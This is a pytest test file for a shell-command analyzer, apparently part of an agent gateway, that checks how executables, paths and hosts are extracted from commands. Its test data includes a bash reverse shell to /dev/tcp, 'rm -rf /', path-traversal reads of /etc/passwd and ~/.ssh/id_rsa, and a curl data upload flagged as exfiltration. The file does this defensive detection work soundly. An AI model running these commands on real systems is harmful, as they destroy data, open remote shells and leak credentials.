"""Shell analysis: the facts rules match on besides categories — executables, normalized commands, paths and hosts."""

from __future__ import annotations

import pytest

from gateway.shell import analyze
from tests.gateway.shell.shell_helpers import HOME, run

# ---------------------------------------------------------------------------------------------
# Executables and normalized commands

EXECUTABLES = [
    ("ls -la", ("ls",)),
    ("/bin/rm -rf x", ("rm",)),
    ("\\rm x", ("rm",)),
    ("'rm' x", ("rm",)),
    ("\"r\"m x", ("rm",)),
    ("$'\\x72m' x", ("rm",)),
    ("sudo -u root env A=1 timeout 5 nice -n 3 rm x", ("sudo", "env", "timeout", "nice", "rm")),
    ("ls | grep x | wc -l", ("ls", "grep", "wc")),
    ("echo $(date) `whoami`", ("date", "whoami", "echo")),
    ("bash -c 'make && make install'", ("bash", "make")),
    ("find . -name x -exec rm {} \\;", ("find", "rm")),
    ("find . -name x | xargs -0 rm -f", ("find", "xargs", "rm")),
    ("git status; python -m pytest", ("git", "python")),
    ("f() { cat x; }; f", ("cat", "f")),
    ("(cd src && make)", ("cd", "make")),
    ("/usr/local/bin/python3.11 app.py", ("python3.11",)),
    ("./scripts/run.sh --fast", ("run.sh",)),
    ("export A=1", ("export",)),
]


@pytest.mark.parametrize(("command", "expected"), EXECUTABLES)
def test_executables(command: str, expected: tuple[str, ...]) -> None:
    assert run(command).executables == expected


COMMANDS = [
    ("rm -r -f /etc", ("rm -r -f /etc",)),
    ("sudo env FOO=1 rm -rf /", ("rm -rf /",)),
    ("\\rm -rf  build", ("rm -rf build",)),
    ("timeout 5 nice -n 10 rm -rf ~", ("rm -rf /home/agent",)),
    ("ls && echo 'a b'", ("ls", "echo 'a b'")),
    ("bash -c 'rm -rf x'", ("bash -c 'rm -rf x'", "rm -rf x")),
    ("echo $(whoami)", ("whoami", "echo $(whoami)")),
    ("find . -name '*.o' -exec rm {} +", ("find . -name '*.o' -exec rm '{}' +", "rm {}")),
    ("git commit -m \"rm -rf /\"", ("git commit -m 'rm -rf /'",)),
]


@pytest.mark.parametrize(("command", "expected"), COMMANDS)
def test_commands(command: str, expected: tuple[str, ...]) -> None:
    assert run(command).commands == expected


# ---------------------------------------------------------------------------------------------
# Paths

PATHS = [
    ("cat src/app.py", [("/work/proj/src/app.py", "workspace")]),
    ("cat ~/notes.txt", [("/home/agent/notes.txt", "home")]),
    ("cat /etc/hosts", [("/etc/hosts", "system")]),
    ("cp a.txt /tmp/b.txt", [("/work/proj/a.txt", "workspace"), ("/tmp/b.txt", "temp")]),
    ("echo x > out.txt", [("/work/proj/out.txt", "workspace")]),
    ("sort < in.txt > /var/tmp/out.txt", [("/work/proj/in.txt", "workspace"), ("/var/tmp/out.txt", "temp")]),
    ("rm -rf ../x", [("/work/x", "system")]),
    ("cd sub && cat a", [("/work/proj/sub", "workspace"), ("/work/proj/sub/a", "workspace")]),
    ("cd /etc; cat passwd", [("/etc", "system"), ("/etc/passwd", "system")]),
    ("grep -rn TODO src", [("/work/proj/src", "workspace")]),
    ("grep -e x -f patterns.txt a.txt", [("/work/proj/patterns.txt", "workspace"), ("/work/proj/a.txt", "workspace")]),
    ("dd if=in.img of=/dev/null", [("/work/proj/in.img", "workspace"), ("/dev/null", "system")]),
    ("tar czf out.tgz src", [("/work/proj/src", "workspace"), ("/work/proj/out.tgz", "workspace")]),
    ("python tool.py --config=~/cfg.yaml ./data", [("/work/proj/tool.py", "workspace"),
                                                   ("/home/agent/cfg.yaml", "home"),
                                                   ("/work/proj/data", "workspace")]),
    ("cat \"$HOME/a b.txt\"", [("/home/agent/a b.txt", "home")]),
    ("cat /work/proj/../../etc/passwd", [("/etc/passwd", "system")]),
    ("scp notes.txt host.example:/tmp/", [("/work/proj/notes.txt", "workspace")]),
]


@pytest.mark.parametrize(("command", "expected"), PATHS)
def test_paths(command: str, expected: list[tuple[str, str]]) -> None:
    got = [(p.path, p.path_class) for p in run(command).paths]
    assert got == expected


def test_workspace_root_is_marked_as_containing_the_workspace() -> None:
    facts = {p.path: p for p in run("rm -rf ..").paths}
    assert facts["/work"].contains_workspace
    assert not {p.path: p for p in run("rm -rf build").paths}["/work/proj/build"].contains_workspace


def test_echo_and_messages_are_not_paths() -> None:
    assert run("echo /etc/passwd ~/.ssh/id_rsa").paths == ()
    assert run("git commit -m 'see /etc/passwd'").paths == ()


def test_without_cwd_relative_paths_resolve_from_root() -> None:
    result = analyze("rm -rf build", None, HOME)
    assert [(p.path, p.path_class) for p in result.paths] == [("/build", "system")]
    assert "destructive_delete" in result.categories


# ---------------------------------------------------------------------------------------------
# Hosts

HOSTS = [
    ("curl -s https://API.Example.com:8443/v1", ("api.example.com",)),
    ("wget http://user:pw@files.example.org/a.tgz", ("files.example.org",)),
    ("curl example.com/path", ("example.com",)),
    ("git clone git@github.com:org/repo.git", ("github.com",)),
    ("git clone https://gitlab.com/org/repo.git dir", ("gitlab.com",)),
    ("git push ssh://git@git.example.com:2222/r.git", ("git.example.com",)),
    ("scp a.txt deploy@host1.example:/srv/", ("host1.example",)),
    ("rsync -av src/ backup.example:/data/", ("backup.example",)),
    ("ssh -p 2222 admin@bastion.example uptime", ("bastion.example",)),
    ("sftp user@sftp.example", ("sftp.example",)),
    ("nc -zv db.internal 5432", ("db.internal",)),
    ("bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", ("10.0.0.1",)),
    ("curl -s http://[::1]:8080/health", ("::1",)),
    ("python fetch.py https://data.example.net/x.csv", ("data.example.net",)),
    ("echo https://not-contacted.example", ()),
    ("git commit -m 'see https://not-contacted.example'", ()),
    ("ls -la", ()),
]


@pytest.mark.parametrize(("command", "expected"), HOSTS)
def test_hosts(command: str, expected: tuple[str, ...]) -> None:
    assert run(command).hosts == expected


@pytest.mark.parametrize("url", ["http://localhost:8000/x", "http://127.0.0.1/x", "http://127.5.5.5/x",
                                 "http://[::1]/x", "http://0.0.0.0:9000/x"])
def test_uploads_to_loopback_are_not_exfiltration(url: str) -> None:
    assert "exfiltration" not in run(f"curl -d @data.json {url}").categories
    assert "exfiltration" in run("curl -d @data.json https://upload.example/x").categories
